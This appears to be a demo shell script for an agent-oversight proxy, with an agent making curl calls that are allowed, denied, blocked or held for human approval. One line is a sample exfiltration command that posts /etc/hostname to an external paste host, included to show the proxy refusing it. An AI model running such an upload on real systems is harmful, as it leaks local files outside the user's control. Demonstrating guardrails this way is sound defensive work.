#!/bin/sh
# A small agent: an ordinary HTTPS client that knows nothing of Chaperone.
orders=https://orders.example.test:8443
say() { printf '\n[agent] %s\n' "$1"; }
say 'reading an order (allowed; what is personal arrives masked)'
curl -sS "$orders/orders/1"; echo
say 'deleting it (a rule denies)'
curl -sS -X DELETE "$orders/orders/1"
say 'uploading it somewhere (no rule allows)'
curl -sS -d @/etc/hostname https://paste.example.test/
say 'refunding it (held until a person approves)'
curl -sS -d amount=50 "$orders/refunds"; echo
